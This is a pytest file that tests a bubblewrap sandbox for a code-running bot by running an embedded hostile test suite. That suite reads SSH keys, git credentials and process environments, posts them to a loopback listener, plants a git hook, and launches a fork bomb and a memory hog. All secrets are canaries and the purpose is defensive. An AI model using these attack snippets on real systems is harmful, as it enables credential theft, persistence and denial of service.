"""Hostile project code, run through the real CLI, is held by bubblewrap: one test per vector.

The attacker is the project's own test suite (the base run executes it, exactly as it
executes a candidate's code): each test in ``tests/test_attacks.py`` tries one attack,
reports what it got to a listener on 127.0.0.1 outside the sandbox, and fails when the
attack worked. The same project is run twice, once sandboxed and once with
``--no-sandbox``, so each vector shows the attack succeeding without the protection.
Two vectors are also stopped by the bot's own precautions alone (secrets wiped from
the bot's environment block; the subreaper killing a ``setsid`` child), so for them the
unprotected run shows the vector reachable but empty.
"""

from __future__ import annotations

import contextlib
import os
import signal
import textwrap
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.core.sandbox_probe import probe
from tests.conftest import commit_files, run_cli
from tests.loopback import Reply, Seen, StandIn

pytestmark = pytest.mark.skipif(not probe().available, reason=probe().reason)

CANARIES = {
    "GITHUB_TOKEN": "ghs_canary_github_token",
    "INPUT_GITHUB-TOKEN": "ghs_canary_input_token",
    "OPENAI_API_KEY": "sk-canary-model-key",
}

ATTACKS = '''
import json, os, socket, subprocess, sys, time, urllib.request

URL = {url!r}
HOME = {home!r}
STATE = {state!r}
MARKER = {marker!r}
CANARIES = {canaries!r}


def report(vector, found):
    """Send what an attack found out of the sandbox (fails quietly without a network)."""
    data = json.dumps({{"vector": vector, "found": found}}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(URL + "/" + vector, data), timeout=5)
    except OSError:
        pass


def git_common_dir():
    here = os.getcwd()
    while not os.path.exists(os.path.join(here, ".git")):
        here = os.path.dirname(here)
    text = open(os.path.join(here, ".git")).read()
    gitdir = os.path.join(here, text.split(":", 1)[1].strip())
    common = open(os.path.join(gitdir, "commondir")).read().strip()
    return os.path.normpath(os.path.join(gitdir, common))


def test_environ():
    hits, seen = [], []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            environ = open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace")
            cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        seen.append(cmdline.replace("\\0", " "))
        hits += [name for name, value in CANARIES.items() if value in environ]
    report("environ", {{"hits": sorted(set(hits)), "processes": seen}})
    assert not hits


def _read(path):
    try:
        return open(path).read()
    except OSError:
        return None


def test_home():
    found = {{n: _read(os.path.join(HOME, n)) for n in (".ssh/id_rsa", ".git-credentials")}}
    try:
        open(os.path.join(HOME, "planted"), "w").write("x")
        found["written"] = True  # into the private $HOME when sandboxed: the host checks
    except OSError:
        pass
    found = {{k: v for k, v in found.items() if v}}
    report("home", found)
    assert not found.keys() - {{"written"}}


def test_state():
    found = {{"key": _read(os.path.join(STATE, "signing", "id_ed25519"))}}
    try:
        os.makedirs(os.path.join(STATE, "cache", "llm"), exist_ok=True)
        open(os.path.join(STATE, "cache", "llm", "poison.json"), "w").write("{{}}")
        found["written"] = True  # into a private tmpfs when sandboxed: the host checks
    except OSError:
        pass
    found = {{k: v for k, v in found.items() if v}}
    report("state", found)
    assert not found.keys() - {{"written"}}


def test_hook():
    hook = os.path.join(git_common_dir(), "hooks", "post-checkout")
    try:
        with open(hook, "w") as out:
            out.write("#!/bin/sh\\necho pwned\\n")
        os.chmod(hook, 0o755)
    except OSError as exc:
        report("hook", {{"error": str(exc)}})
        return
    report("hook", {{"planted": hook}})
    raise AssertionError("planted a hook")


def test_user_tree():
    target = os.path.join(os.path.dirname(git_common_dir()), "pwned.txt")
    try:
        open(target, "w").write("x")
    except OSError as exc:
        report("user_tree", {{"error": str(exc)}})
        return
    raise AssertionError("wrote into the user's working tree")


def test_network():
    report("network", {{"connected": True}})
    try:
        socket.create_connection(("127.0.0.1", int(URL.rsplit(":", 1)[1])), timeout=5).close()
    except OSError:
        return
    raise AssertionError("reached a listener outside")


def test_setsid():
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(30)", MARKER],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def test_forks():
    children = []
    try:
        for _ in range(200):
            pid = os.fork()
            if pid == 0:
                time.sleep(1)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.waitpid(pid, 0)
    report("forks", {{"forked": len(children)}})
    assert len(children) < 200


def test_memory():
    try:
        hog = bytearray(3 << 30)  # calloc'd: address space, no page touched
    except MemoryError:
        return
    del hog
    report("memory", {{"allocated_gib": 3}})
    raise AssertionError("allocated 3 GiB")
'''


class Listener(StandIn):
    """Records what the attacks managed to send out."""

    def answer(self, seen: Seen) -> Reply:
        return Reply(200)

    def found(self) -> dict[str, object]:
        return {r.path.strip("/"): r.json()["found"] for r in self.requests}


@dataclass(frozen=True)
class Outcome:
    """One CLI run of the hostile project."""

    returncode: int
    stderr: str
    sent: dict[str, object]
    home: Path
    state: Path
    repo: Path
    survivors: list[int]


def _survivors(marker: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if marker in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"):
                found.append(int(pid))
    return found


def _hostile_run(root: Path, protected: bool) -> Outcome:
    home, state, repo = root / "home", root / "state", root / "repo"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("canary ssh key")
    (home / ".git-credentials").write_text("https://user:canary@example.com")
    (state / "signing").mkdir(parents=True)
    (state / "signing" / "id_ed25519").write_text("canary signing key")
    marker = f"selfimprove-setsid-{uuid.uuid4().hex}"
    with Listener() as listener:
        source = ATTACKS.format(
            url=listener.url, home=str(home), state=str(state), marker=marker, canaries=CANARIES
        )
        commit_files(
            repo,
            {
                "pyproject.toml": textwrap.dedent(
                    """\
                    [tool.selfimprove.limits]
                    max-processes = 64
                    max-memory-mb = 1024
                    """
                ),
                "calc.py": "def add(a, b):\n    return a + b\n",
                "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n"
                "    assert add(1, 2) == 3\n",
                "tests/test_attacks.py": source,
            },
        )
        args = ["run", "--dry-run", str(repo), "--target", "calc.py:add"]
        done = run_cli(
            *args,
            *([] if protected else ["--no-sandbox"]),
            cwd=root,
            home=state,
            env={**CANARIES, "HOME": str(home)},
        )
        sent = listener.found()
    survivors = _survivors(marker)
    for pid in survivors:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return Outcome(done.returncode, done.stderr, sent, home, state, repo, survivors)


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[bool, Outcome]]:
    """The hostile project run once sandboxed and once with --no-sandbox, side by side."""
    roots = {p: tmp_path_factory.mktemp(f"hostile-{p}") for p in (True, False)}
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {p: pool.submit(_hostile_run, root, p) for p, root in roots.items()}
        yield {p: future.result() for p, future in futures.items()}


def test_the_sandboxed_run_is_green_and_the_unprotected_one_is_not(
    runs: dict[bool, Outcome],
) -> None:
    assert runs[True].returncode == 0, runs[True].stderr
    assert runs[True].sent == {}, "nothing may leave the sandbox"
    unprotected = runs[False]
    assert unprotected.returncode != 0
    assert "7 failed" in unprotected.stderr, unprotected.stderr


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_ancestors_environ_holds_no_secret(runs: dict[bool, Outcome], protected: bool) -> None:
    sent = runs[protected].sent
    if protected:
        assert "environ" not in sent  # and the project's own assertion passed: no hit
        return
    found = sent["environ"]
    assert isinstance(found, dict)
    assert any("bot.cli" in p for p in found["processes"]), "the bot is visible unsandboxed"
    assert found["hits"] == []  # part 2 alone: secrets left the bot's environment block


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_files_under_home_are_invisible(runs: dict[bool, Outcome], protected: bool) -> None:
    run = runs[protected]
    planted = (run.home / "planted").exists()
    if protected:
        assert not planted and "home" not in run.sent
    else:
        assert planted
        assert run.sent["home"] == {
            ".ssh/id_rsa": "canary ssh key",
            ".git-credentials": "https://user:canary@example.com",
            "written": True,
        }


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_selfimprove_home_is_invisible(runs: dict[bool, Outcome], protected: bool) -> None:
    run = runs[protected]
    poisoned = (run.state / "cache" / "llm" / "poison.json").exists()
    if protected:
        assert not poisoned and "state" not in run.sent
    else:
        assert poisoned
        assert run.sent["state"] == {"key": "canary signing key", "written": True}


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_no_hook_can_be_planted_through_the_commondir(
    runs: dict[bool, Outcome], protected: bool
) -> None:
    hook = runs[protected].repo / ".git" / "hooks" / "post-checkout"
    assert hook.exists() is not protected


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_the_users_working_tree_is_read_only(runs: dict[bool, Outcome], protected: bool) -> None:
    assert (runs[protected].repo / "pwned.txt").exists() is not protected


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_no_connection_reaches_a_listener_outside(
    runs: dict[bool, Outcome], protected: bool
) -> None:
    assert ("network" in runs[protected].sent) is not protected


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_a_setsid_child_does_not_outlive_the_run(
    runs: dict[bool, Outcome], protected: bool
) -> None:
    # part 2 alone stops it too: without a sandbox the subreaper kills every descendant
    assert runs[protected].survivors == []


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_a_fork_bomb_is_held_by_the_process_limit(
    runs: dict[bool, Outcome], protected: bool
) -> None:
    run = runs[protected]
    if protected:
        assert "forks" not in run.sent  # the project's assertion (< 200 forks) passed
    else:
        assert run.sent["forks"] == {"forked": 200}


@pytest.mark.parametrize("protected", [True, False], ids=["sandboxed", "unprotected"])
def test_a_memory_hog_is_held_by_the_address_space_limit(
    runs: dict[bool, Outcome], protected: bool
) -> None:
    assert ("memory" in runs[protected].sent) is not protected
